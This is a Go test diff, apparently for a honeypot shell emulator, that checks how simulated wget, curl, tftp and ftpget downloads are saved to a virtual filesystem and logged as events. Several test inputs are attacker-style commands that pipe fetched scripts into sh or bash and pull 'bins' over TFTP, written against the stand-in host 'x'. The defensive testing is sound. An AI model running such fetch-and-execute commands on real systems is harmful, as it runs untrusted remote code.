+			t.Errorf("%s: unexpected output %q", test.line, got)
+		}
+	}
+
+	if contents, _ := session.VFS.ReadFile("/home/{}/.bash_history"); contents != "history -w\n" {
+		t.Errorf("Unexpected history file %q", contents)
+	}
+
+	session.AddHistory("for i in 1 2; do\necho $i\ndone")
+
+	if session.Term.History.Len() != 2 || session.Term.History.At(0) != "for i in 1 2; do echo $i; done" {
+		t.Errorf("Unexpected history %q", session.Term.History.At(0))
+	}
+}
+
+func TestDownloads(t *testing.T) {
+	tests := []struct {
+		line   string
+		out    string
+		status int
+		path   string
+		prefix string
+	}{
+		// A script that isn't fetched runs rather than failing on binary data.
+		{`curl -s http://x/a.sh | sh; echo $?`, "0\n", 0, "", ""},
+		// Neither does a binary, which leaves nothing for the shell to run.
+		{`curl -s http://x/a | sh; wget -qO- http://x/b | bash; echo $?`, "0\n", 0, "", ""},
+		{`wget -q http://x/a.py`, "", 0, "/home/{}/a.py", "#!/usr/bin/env python3\n# "},
+		{`curl -so /tmp/a.txt http://x/a.txt`, "", 0, "/tmp/a.txt", ""},
+		{`curl -sO http://x/a`, "", 0, "/home/{}/a", ""},
+		// A directory is saved by wget as index.html, and curl has no name for it.
+		{`wget -q http://x/dir/`, "", 0, "/home/{}/index.html", ""},
+		{`curl -sO http://x/dir/`, "", 23, "", ""},
+	}
+
+	for _, test := range tests {
+		session, out := newTestSession(t)
+		status := session.Run(test.line)
+
+		if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != test.out || status != test.status {
+			t.Errorf("%s: unexpected output (%d): %q", test.line, status, got)
+		}
+
+		if test.path == "" {
+			continue
+		}
+
+		contents, err := session.VFS.ReadFile(test.path)
+		text := utf8.ValidString(contents) && !strings.ContainsRune(contents, 0)
+
+		if err != nil {
+			t.Errorf("%s: %s", test.line, err)
+		} else if !strings.HasPrefix(contents, test.prefix) || text != strings.Contains(test.path, ".") {
+			t.Errorf("%s: unexpected contents %q", test.line, contents[:min(len(contents), 40)])
+		}
+	}
+}
+
+// testFetcher serves the downloads whose URLs it has, and records the requests.
+type testFetcher struct {
+	files    map[string]string
+	requests []*plugin.DownloadRequest
+}
+
+func (f *testFetcher) Fetch(req *plugin.DownloadRequest) ([]byte, error) {
+	f.requests = append(f.requests, req)
+
+	if contents, ok := f.files[req.URL]; ok {
+		return []byte(contents), nil
+	}
+
+	return nil, plugin.ErrNotFetched
+}
+
+func TestDownloadCommands(t *testing.T) {
+	tests := []struct {
+		line     string
+		out      string
+		path     string
+		contents string
+		url      string
+		method   string
+	}{
+		{`wget -qO- http://x/a`, "payload", "", "", "http://x/a", "GET"},
+		{`wget -q -O /tmp/o x/a`, "", "/tmp/o", "payload", "http://x/a", "GET"},
+		{`wget -q -P /tmp --post-data=k=v http://x/a`, "", "/tmp/a", "payload", "http://x/a", "POST"},
+		{`wget -q http://x/a; wget -q http://x/a`, "", "/home/{}/a.1", "payload", "http://x/a", "GET"},
+		{`wget -nv -O /tmp/o http://x/a`, "", "/tmp/o", "payload", "http://x/a", "GET"},
+		{`curl http://x/a`, "payload", "", "", "http://x/a", "GET"},
+		{`curl -s -o /tmp/c -X PUT http://x/a`, "", "/tmp/c", "payload", "http://x/a", "PUT"},
+		{`curl -sO https://x/b/a -d x`, "", "/home/{}/a", "payload", "https://x/b/a", "POST"},
+		{`curl -sI http://x/a`, "HTTP/1.1 200 OK\nContent-Length: 7\nContent-Type: application/octet-stream\n\n", "", "", "http://x/a", "HEAD"},
+		{`tftp -g -r bins/a -l /tmp/t 10.0.0.1`, "", "/tmp/t", "payload", "tftp://10.0.0.1:69/bins/a", "GET"},
+		{`tftp 10.0.0.1 -c get a`, "", "/home/{}/a", "payload", "tftp://10.0.0.1:69/a", "GET"},
+		{`ftpget -u u -p p 10.0.0.1 /tmp/f a`, "", "/tmp/f", "payload", "ftp://u:p@10.0.0.1:21/a", "RETR"},
+	}
+
+	for _, test := range tests {
+		session, out := newTestSession(t)
+		fetcher := &testFetcher{files: map[string]string{
+			"http://x/a":                "payload",
+			"https://x/b/a":             "payload",
+			"tftp://10.0.0.1:69/bins/a": "payload",
+			"tftp://10.0.0.1:69/a":      "payload",
+			"ftp://u:p@10.0.0.1:21/a":   "payload",
+		}}
+		session.Manager.Fetcher = fetcher
+		events := []*plugin.DownloadEvent{}
+		session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+			if e, ok := event.(*plugin.DownloadEvent); ok {
+				events = append(events, e)
+			}
+		})
+
+		if status := session.Run(test.line); status != 0 {
+			t.Errorf("%s: unexpected status %d", test.line, status)
+		}
+
+		if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); !strings.HasSuffix(got, test.out) {
+			t.Errorf("%s: unexpected output %q", test.line, got)
+		}
+
+		if test.path != "" {
+			if contents, err := session.VFS.ReadFile(test.path); err != nil || contents != test.contents {
+				t.Errorf("%s: unexpected contents of %s %q (%v)", test.line, test.path, contents, err)
+			}
+		}
+
+		if len(events) == 0 {
+			t.Errorf("%s: no download event", test.line)
+			continue
+		}
+
+		event := events[len(events)-1]
+
+		if event.URL != test.url || event.Method != test.method || !event.Fetched || string(event.Data) != "payload" || event.Path != test.path {
+			t.Errorf("%s: unexpected event %+v", test.line, event)
+		}
+	}
+}